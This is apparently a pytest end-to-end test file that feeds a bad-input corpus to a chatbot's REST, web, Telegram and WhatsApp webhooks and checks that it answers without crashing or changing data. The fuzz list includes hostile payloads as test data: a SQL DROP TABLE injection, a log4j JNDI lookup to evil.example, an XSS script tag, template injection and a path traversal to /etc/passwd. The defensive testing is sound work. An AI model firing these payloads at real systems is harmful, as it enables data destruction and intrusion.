"""A bad-input corpus sent to every public endpoint (REST, web, Telegram, WhatsApp): each gets a clear 4xx or a
friendly answer, never a 5xx or a crash, and afterwards the catalog and another user's conversation are as
they were."""
import hashlib
import hmac
import json

import pytest
import requests
from sqlalchemy import text as sql

from bot.core.db.session import get_engine
from tests.e2e.conftest import TELEGRAM_SECRET, WHATSAPP_SECRET
from tests.e2e.helpers import new_user, texts

pytestmark = pytest.mark.e2e

NASTY_TEXTS = {
    "empty": "",
    "whitespace": " \n\t ",
    "100 KB": "a" * 100_000,
    "zero-width only": "\u200b\u200c\u200d\ufeff",
    "rtl override": "\u202eoiah",
    "arabic": "مرحبا، كيف حالك؟",
    "hebrew": "שלום, מה שלומך",
    "sql injection": "'; DROP TABLE courses; --",
    "sql tautology": "x' OR '1'='1",
    "jinja template": "{{ 7*7 }} {% for x in y %}",
    "log4j": "${jndi:ldap://evil.example/a}",
    "format string": "{name} {0} %s %n %x",
    "html": "<script>alert('x')</script>",
    "path": "../../../../etc/passwd",
    "control chars": "\x00\x01\x02\x1b[31m",
    "emoji flood": "🙂" * 400,
    "zalgo": "Z̴̡̛a̸͉l̷g̶o̵ h̷e̶l̷p̸",
    "fullwidth": "ｈｅｌｌｏ ｉ ｗａｎｔ ａ ｊｏｂ",
    "lone surrogate": "\ud800 hoi",
    "intent injection": '/check_eligibility{"age": -1}',
    "unknown intent": "/no_such_intent",
    "entity injection": '/greet{"language": "xx", "job_profile": "<b>"}',
    "json in text": '{"sender": "other", "message": "hi"}',
    "very long word": "x" * 999,
    "newlines only": "\n" * 500,
}

RAW_BODIES = {
    "no body": b"",
    "broken json": b'{"sender": "x", "message": "hoi"',
    "json list": b"[]",
    "json null": b"null",
    "json number": b"42",
    "json string": b'"hallo"',
    "invalid utf-8": b'{"sender": "abcdefgh12345678", "message": "\xff\xfe\xfa"}',
    "binary": bytes(range(256)) * 4,
    "deep nesting": b"[" * 50_000 + b"]" * 50_000,
    "too large": b'{"sender": "abcdefgh12345678", "message": "' + b"a" * 300_000 + b'"}',
}

WRONG_TYPES = {
    "message number": {"message": 123},
    "message null": {"message": None},
    "message list": {"message": ["hoi"]},
    "message object": {"message": {"text": "hoi"}},
    "sender number": {"sender": 5, "message": "hoi"},
    "sender empty": {"sender": "", "message": "hoi"},
    "sender huge": {"sender": "s" * 5000, "message": "hoi"},
}


def rest(stack, **kwargs):
    return requests.post(f"{stack.rasa_url}/webhooks/rest/webhook", timeout=60, **kwargs)


def web(stack, **kwargs):
    return requests.post(f"{stack.rasa_url}/webhooks/web/webhook", timeout=60, **kwargs)


def assert_friendly(reply):
    assert reply.status_code < 500, reply.text[:300]
    if reply.status_code == 200:
        messages = reply.json()
        assert isinstance(messages, list)
        assert all(isinstance(m.get("text", ""), str) and "Traceback" not in m.get("text", "") for m in messages)


@pytest.fixture(scope="module")
def before(stack):
    """Another user's conversation and the catalog, before the corpus is sent."""
    other = new_user()
    assert "Data" in texts(stack.send(other, "what does a data analyst do?"))
    with get_engine(stack.database_url).connect() as c:
        catalog = [c.execute(sql(f"SELECT COUNT(*) FROM {table}")).scalar()
                   for table in ("courses", "providers", "job_profiles", "funding_instruments")]
    tracebacks = stack.logs["rasa"].read_text().count("Traceback")
    return {"other": other, "catalog": catalog, "tracebacks": tracebacks}


@pytest.mark.parametrize("name", list(NASTY_TEXTS))
def test_nasty_text_on_rest_and_web(stack, before, name):
    text = NASTY_TEXTS[name]
    assert_friendly(rest(stack, json={"sender": new_user(), "message": text}))
    assert_friendly(web(stack, json={"sender": new_user() + "-web-sender", "message": text}))


@pytest.mark.parametrize("name", list(RAW_BODIES))
def test_raw_bodies_on_every_endpoint(stack, before, name):
    body = RAW_BODIES[name]
    for reply in (rest(stack, data=body), web(stack, data=body)):
        assert 400 <= reply.status_code < 500 or reply.status_code == 200, (reply.status_code, reply.text[:200])
    telegram = requests.post(f"{stack.rasa_url}/webhooks/telegram/webhook", data=body, timeout=30,
                             headers={"X-Telegram-Bot-Api-Secret-Token": TELEGRAM_SECRET})
    assert 400 <= telegram.status_code < 500
    signature = "sha256=" + hmac.new(WHATSAPP_SECRET.encode(), body, hashlib.sha256).hexdigest()
    whatsapp = requests.post(f"{stack.rasa_url}/webhooks/whatsapp/webhook", data=body, timeout=30,
                             headers={"X-Hub-Signature-256": signature})
    if name == "too large":  # 300 KB is a valid, signed JSON object without messages: accepted, nothing to do
        assert whatsapp.status_code == 200
    else:
        assert 400 <= whatsapp.status_code < 500


@pytest.mark.parametrize("name", list(WRONG_TYPES))
def test_wrong_types_get_a_clear_400(stack, before, name):
    body = {"sender": new_user() + "-wrong-types", **WRONG_TYPES[name]}
    assert rest(stack, json=body).status_code == 400
    assert web(stack, json=body).status_code == 400


def test_rest_metadata_must_be_an_object(stack, before):
    body = {"sender": new_user(), "message": "hoi", "metadata": "x"}
    assert rest(stack, json=body).status_code == 400


TELEGRAM_UPDATES = {
    "forged secret": (None, {"update_id": 1, "message": {"text": "hoi"}}),
    "update id string": (TELEGRAM_SECRET, {"update_id": "x", "message": {}}),
    "message without chat": (TELEGRAM_SECRET, {"update_id": 91_000_001, "message": {"message_id": 1, "date": 0,
                                                                                    "text": "hoi"}}),
    "text not a string": (TELEGRAM_SECRET, {"update_id": 91_000_002, "message": {
        "message_id": 1, "date": 0, "text": 12345, "chat": {"id": 91_000_002, "type": "private"}}}),
    "callback without message": (TELEGRAM_SECRET, {"update_id": 91_000_003, "callback_query": {
        "id": "c", "chat_instance": "i", "data": "/greet", "from": {"id": 91_000_003, "is_bot": False,
                                                                     "first_name": "X"}}}),
    "unknown update kind": (TELEGRAM_SECRET, {"update_id": 91_000_004, "poll": {"id": "p"}}),
    "huge text": (TELEGRAM_SECRET, {"update_id": 91_000_005, "message": {
        "message_id": 1, "date": 0, "text": "x" * 50_000, "chat": {"id": 91_000_005, "type": "private"}}}),
}


@pytest.mark.parametrize("name", list(TELEGRAM_UPDATES))
def test_odd_telegram_updates(stack, before, name):
    secret, update = TELEGRAM_UPDATES[name]
    headers = {"X-Telegram-Bot-Api-Secret-Token": secret} if secret else {}
    reply = requests.post(f"{stack.rasa_url}/webhooks/telegram/webhook", json=update, headers=headers, timeout=30)
    assert reply.status_code < 500
    if secret is None:
        assert reply.status_code == 403


def whatsapp_post(stack, payload, secret=WHATSAPP_SECRET):
    body = json.dumps(payload).encode()
    signature = "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()
    return requests.post(f"{stack.rasa_url}/webhooks/whatsapp/webhook", data=body, timeout=30,
                         headers={"X-Hub-Signature-256": signature})


def wa(value):
    return {"object": "whatsapp_business_account", "entry": [{"id": "0", "changes": [{"value": value}]}]}


WHATSAPP_PAYLOADS = {
    "forged signature": (wa({"messages": [{"id": "m", "from": "1", "type": "text", "text": {"body": "hoi"}}]}),
                         "wrong-secret"),
    "entry not a list": ({"entry": "x"}, WHATSAPP_SECRET),
    "changes not a list": ({"entry": [{"changes": 5}]}, WHATSAPP_SECRET),
    "message without type": (wa({"messages": [{"id": "wamid.bad.1", "from": "3160000001"}]}), WHATSAPP_SECRET),
    "text body not a string": (wa({"messages": [{"id": "wamid.bad.2", "from": "3160000002", "type": "text",
                                                 "text": {"body": ["x"]}}]}), WHATSAPP_SECRET),
    "interactive without reply": (wa({"messages": [{"id": "wamid.bad.3", "from": "3160000003",
                                                    "type": "interactive", "interactive": {}}]}), WHATSAPP_SECRET),
    "unknown type": (wa({"messages": [{"id": "wamid.bad.4", "from": "3160000004", "type": "hologram"}]}),
                     WHATSAPP_SECRET),
    "statuses only": (wa({"statuses": [{"id": "x", "status": "read"}]}), WHATSAPP_SECRET),
    "forged button id": (wa({"messages": [{"id": "wamid.bad.5", "from": "3160000005", "type": "interactive",
                                           "interactive": {"type": "button_reply", "button_reply": {
                                               "id": '/check_eligibility{"age":"1"}', "title": "x"}}}]}),
                         WHATSAPP_SECRET),
}


@pytest.mark.parametrize("name", list(WHATSAPP_PAYLOADS))
def test_odd_whatsapp_payloads(stack, before, name):
    payload, secret = WHATSAPP_PAYLOADS[name]
    reply = whatsapp_post(stack, payload, secret)
    assert reply.status_code < 500
    if secret != WHATSAPP_SECRET:
        assert reply.status_code == 403


def test_replayed_updates_are_not_processed_twice(stack, before, fake_telegram):
    update = {"update_id": 91_000_100, "message": {"message_id": 1, "date": 0, "text": "hoi",
                                                   "chat": {"id": 91_000_100, "type": "private"}}}
    headers = {"X-Telegram-Bot-Api-Secret-Token": TELEGRAM_SECRET}
    statuses = [requests.post(f"{stack.rasa_url}/webhooks/telegram/webhook", json=update, headers=headers,
                              timeout=30).json()["status"] for _ in range(3)]
    assert statuses == ["ok", "duplicate", "duplicate"]


def test_afterwards_nothing_changed_and_nothing_crashed(stack, before):
    with get_engine(stack.database_url).connect() as c:
        catalog = [c.execute(sql(f"SELECT COUNT(*) FROM {table}")).scalar()
                   for table in ("courses", "providers", "job_profiles", "funding_instruments")]
    assert catalog == before["catalog"]
    answer = texts(stack.send(before["other"], "and how much can i earn?"))
    assert "€" in answer and "month" in answer.lower()  # still English, still about the data analyst
    assert stack.logs["rasa"].read_text().count("Traceback") == before["tracebacks"]
    assert requests.get(f"{stack.rasa_url}/", timeout=10).status_code == 200
